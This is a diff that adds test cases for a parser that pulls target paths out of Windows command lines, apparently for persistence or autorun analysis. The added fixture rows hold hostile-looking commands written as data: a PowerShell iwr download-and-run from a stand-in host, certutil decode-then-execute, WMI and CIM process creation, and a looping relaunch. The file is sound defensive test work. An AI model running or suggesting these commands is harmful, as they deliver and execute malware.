@@ -31,6 +31,16 @@ powershell -c "& {C:\x\y.ps1}" | script | c:\x\y.ps1 | powershell
 powershell -command "iex (gc C:\x\a.txt -raw)" | inline_code | c:\x\a.txt | powershell
 powershell -c "[Reflection.Assembly]::LoadFile('C:\x\a.dll')" | inline_code | c:\x\a.dll | powershell
 powershell -c "(New-Object -ComObject WScript.Shell).Run('C:\x\a.exe')" | inline_code | c:\x\a.exe | powershell
+powershell -c "iwr http://e.test/a -o $env:temp\a.exe;& $env:temp\a.exe" | inline_code | ?:\users\*\appdata\local\temp\a.exe | powershell
+powershell -c "while(1){C:\x\a.exe; sleep 5}" | inline_code | c:\x\a.exe | powershell
+powershell -c "Start-Job {C:\x\a.exe}" | inline_code | c:\x\a.exe | powershell
+powershell -c "& $env:APPDATA\a.exe" | executable | ?:\users\*\appdata\roaming\a.exe | powershell
+powershell -c "Add-Type -Path C:\x\a.dll" | inline_code | c:\x\a.dll | powershell
+powershell -c "iwmi win32_process create 'C:\x\a.exe'" | inline_code | c:\x\a.exe | powershell
+powershell -c "Invoke-CimMethod Win32_Process Create @{CommandLine='C:\x\a.exe'}" | inline_code | c:\x\a.exe | powershell
+powershell -ea QQBBAEEA -c C:\x\a.exe | executable | c:\x\a.exe | powershell
+cmd /c certutil -decode C:\x\a.txt C:\x\a.exe & C:\x\a.exe | executable | c:\x\a.exe | cmd
+certutil -decode C:\x\a.txt C:\x\a.exe | bare_name | certutil | -
 powershell -c "Get-Date; 1" | inline_code | - | powershell
 powershell -c "$x='C:\x\a.exe'; start $x" | inline_code | - | powershell
 mshta vbscript:CreateObject("WScript.Shell").Run("C:\x\a.exe",0)(window.close) | inline_code | c:\x\a.exe | mshta
@@ -146,6 +156,9 @@ test('a key with a blank in its name is read whole, and variables in arguments s
     'HKCU\\Software\\A B\\Y',
   );
   expect(readValueTarget('%ProgramFiles%\\A B\\c.exe %TEMP%\\x').arguments).toBe('%TEMP%\\x');
+  expect(readValueTarget('powershell -c "& ${'.concat('env:TEMP}\\a.exe"')).path).toBe(
+    '?:\\users\\*\\appdata\\local\\temp\\a.exe',
+  );
   expect(readValueTarget('powershell -c "iex $env:TEMP"').code).toBe('"iex $env:TEMP"');
 });
 
